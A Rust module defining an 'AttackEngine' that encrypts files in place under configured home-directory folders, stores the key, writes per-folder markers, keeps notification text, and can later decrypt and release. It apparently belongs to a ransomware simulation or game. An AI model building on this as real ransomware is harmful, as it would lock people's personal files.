use std::path::PathBuf;

use crate::collect::{HiddenPredicate, PathCollector};
use crate::common::constants::DEFAULT_SIZE_CEILING;

pub mod config;
mod decrypt;
mod encrypt;
pub mod marker;
pub mod progress;
mod transform;

pub use config::{ConfigError, ConfigStore, GameConfig};
pub use decrypt::DecryptError;
pub use encrypt::EncryptError;
pub use progress::{BatchSummary, Phase, ProgressEvent};

/// The two logical modes of the engine, derived from the persisted key.
//
// // 引擎的两种逻辑状态，由持久化密钥推导而来。
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum EngineState {
    /// No key is persisted; target files (if any) are plaintext.
    KeyAbsent,
    /// A key is persisted; target files are ciphertext.
    KeyPresent,
}

/// Owns the key lifecycle and the batch encrypt/decrypt operations.
///
/// One engine instance drives the whole lifecycle; operations are
/// synchronous and assume exclusive access to the target trees and the
/// configuration document for their duration. The caller decides off which
/// thread to run them and how to render the progress callback.
//
// // 持有密钥生命周期与批量加解密操作。
// // 单个引擎实例驱动整个生命周期；操作是同步的，运行期间假定独占目标
// // 目录树与配置文档。在哪个线程运行、如何呈现进度回调由调用方决定。
pub struct AttackEngine {
    pub(crate) config: ConfigStore,
    pub(crate) base_dir: PathBuf,
    pub(crate) size_ceiling: u64,
    pub(crate) visibility: Option<HiddenPredicate>,
}

impl AttackEngine {
    /// 基于已加载的配置文档构造引擎。根目录相对用户主目录解析。
    pub fn new(config: ConfigStore) -> Self {
        AttackEngine {
            config,
            base_dir: dirs::home_dir().unwrap_or_else(|| PathBuf::from(".")),
            size_ceiling: DEFAULT_SIZE_CEILING,
            visibility: None,
        }
    }

    /// Resolves target roots against `base_dir` instead of the home
    /// directory. Tests point this at a tempdir.
    pub fn with_base_dir(mut self, base_dir: impl Into<PathBuf>) -> Self {
        self.base_dir = base_dir.into();
        self
    }

    /// Replaces the default 100 MiB per-file size ceiling.
    pub fn with_size_ceiling(mut self, size_ceiling: u64) -> Self {
        self.size_ceiling = size_ceiling;
        self
    }

    /// Replaces the platform hidden-file predicate.
    pub fn with_visibility(mut self, is_hidden: HiddenPredicate) -> Self {
        self.visibility = Some(is_hidden);
        self
    }

    /// Reports which operation is currently legal, from the loaded
    /// document. Both batch operations re-read the document themselves, so
    /// a stale answer here can never bypass the state check.
    pub fn current_state(&self) -> EngineState {
        match self.config.document.key {
            Some(_) => EngineState::KeyPresent,
            None => EngineState::KeyAbsent,
        }
    }

    /// 只读访问配置存储（调用方用它取通知文本、目标文件夹等）。
    pub fn config(&self) -> &ConfigStore {
        &self.config
    }

    /// Runs the attack: generates and persists a key, encrypts every
    /// eligible file in place, writes a marker per root.
    ///
    /// Fails with [`EncryptError::KeyAlreadyPresent`] — before any I/O —
    /// when a previous run has not been released.
    pub fn start_encrypt(
        &mut self,
        mut on_progress: impl FnMut(ProgressEvent),
    ) -> Result<BatchSummary, EncryptError> {
        encrypt::encrypt_run(self, &mut on_progress)
    }

    /// Runs the release: decrypts every eligible file in place, removes
    /// the markers and erases the persisted key.
    pub fn start_decrypt(
        &mut self,
        mut on_progress: impl FnMut(ProgressEvent),
    ) -> Result<BatchSummary, DecryptError> {
        decrypt::decrypt_run(self, &mut on_progress)
    }

    /// 将配置中的文件夹名解析为绝对根路径，保持配置中的顺序。
    pub(crate) fn target_roots(&self) -> Vec<PathBuf> {
        self.config
            .document
            .folders
            .iter()
            .map(|folder| self.base_dir.join(folder))
            .collect()
    }

    /// A fresh collector per run; the collector holds no state across runs.
    pub(crate) fn collector(&self) -> PathCollector {
        let collector = PathCollector::new(self.size_ceiling);
        match self.visibility {
            Some(is_hidden) => collector.with_visibility(is_hidden),
            None => collector,
        }
    }
}
